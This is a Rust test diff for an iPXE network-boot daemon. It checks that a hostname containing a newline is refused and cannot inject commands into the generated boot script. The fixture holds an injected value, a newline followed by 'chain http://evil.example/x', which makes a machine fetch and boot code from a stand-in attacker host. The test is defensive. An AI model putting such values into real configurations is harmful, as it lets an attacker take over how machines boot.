@@ -451,3 +451,44 @@ fn the_cli_sees_only_what_is_committed_like_the_daemon() {
         "committed backup.toml is used: {shown}"
     );
 }
+
+/// Issue 10: a hostname with a newline went into the generated iPXE script's comment line,
+/// so the text after it ran as an iPXE command. Committed to the daemon's conf repo, it is
+/// refused with path:line and the machine's last good version keeps being served.
+#[test]
+fn a_hostname_with_a_newline_is_refused_and_injects_nothing() {
+    let d = tempfile::tempdir().unwrap();
+    let base = d.path();
+    let repo = kiosk_repo(base);
+    let port = free_port();
+    let log = base.join("daemon.log");
+    let _daemon = Daemon::start(&loopback_config(base, port), &log);
+    let served = || get(port, SCRIPT).is_some_and(|b| b.contains("marker=good"));
+    assert!(
+        within(Duration::from_secs(20), served).is_some(),
+        "daemon did not serve"
+    );
+    std::fs::write(
+        repo.join("machines/kiosk1.toml"),
+        "mac = \"52:54:00:00:00:01\"\nhostname = \"kiosk1\\nchain http://evil.example/x\"\nargs = \"marker=evil\"\n",
+    )
+    .unwrap();
+    git(&repo, &["commit", "-q", "-am", "kiosk1: new name"]);
+    let file = repo.join("machines/kiosk1.toml");
+    let problem = format!("{}:2:", file.display());
+    let logged = || {
+        std::fs::read_to_string(&log)
+            .unwrap_or_default()
+            .contains(&problem)
+    };
+    assert!(
+        within(Duration::from_secs(10), logged).is_some(),
+        "refused with {problem}"
+    );
+    let script = get(port, SCRIPT).unwrap();
+    assert!(!script.lines().any(|l| l.starts_with("chain")), "{script}");
+    assert!(
+        script.contains("marker=good"),
+        "the last good version serves: {script}"
+    );
+}
